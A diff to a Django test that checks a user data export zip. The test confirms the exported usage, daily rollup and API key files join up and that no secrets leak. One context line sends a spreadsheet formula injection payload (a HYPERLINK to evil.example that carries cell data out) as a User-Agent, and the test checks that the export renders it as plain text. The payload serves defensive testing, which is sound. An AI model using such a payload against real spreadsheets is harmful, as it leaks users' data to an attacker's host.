@@ -48,6 +48,14 @@ def test_export_builds_a_zip_with_a_readme_and_no_secrets(alice_client, alice, u
         headers={"Authorization": f"Bearer {secret}", "User-Agent": '=HYPERLINK("http://evil.example/?"&A1,"Click")'},
         timeout=20,
     )
+    from datetime import date
+
+    from metrics.models import DailyRollup
+
+    key = ApiKey.objects.get(user=alice)
+    DailyRollup.objects.create(
+        user=alice, api_key=key, day=date(2026, 11, 1), errors_by_class={"upstream_error": 2}, route_reasons={"explicit": 3}
+    )
     alice_client.post("/login/", {"username": "alice@example.org", "password": PASSWORD})
     alice_client.force_login(alice)
     response = alice_client.post("/settings/privacy/export/", follow=True)
@@ -76,6 +84,11 @@ def test_export_builds_a_zip_with_a_readme_and_no_secrets(alice_client, alice, u
     assert json.loads(archive.read("provider_keys.json"))[0]["last4"] == "6789"
     assert json.loads(archive.read("profile.json"))["email"] == "alice@example.org"
     usage = list(csv.DictReader(io.StringIO(archive.read("usage_records.csv").decode())))
+    (listed,) = json.loads(archive.read("api_keys.json"))
+    assert usage[0]["api_key_id"] == str(listed["id"]) == str(key.pk)  # the files join up
+    (daily,) = csv.DictReader(io.StringIO(archive.read("usage_daily.csv").decode()))
+    assert daily["api_key_id"] == str(key.pk) and json.loads(daily["errors_by_class"]) == {"upstream_error": 2}
+    assert json.loads(daily["route_reasons"]) == {"explicit": 3} and isinstance(json.loads(daily["latency_histogram"]), list)
     assert usage[0]["user_agent"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'  # text, not a formula, in a spreadsheet
     browsers = archive.read("signed_in_browsers.csv").decode().splitlines()
     assert browsers[0] == "created,last_seen,ip,device" and len(browsers) == 1 + alice.browser_sessions.count() > 1
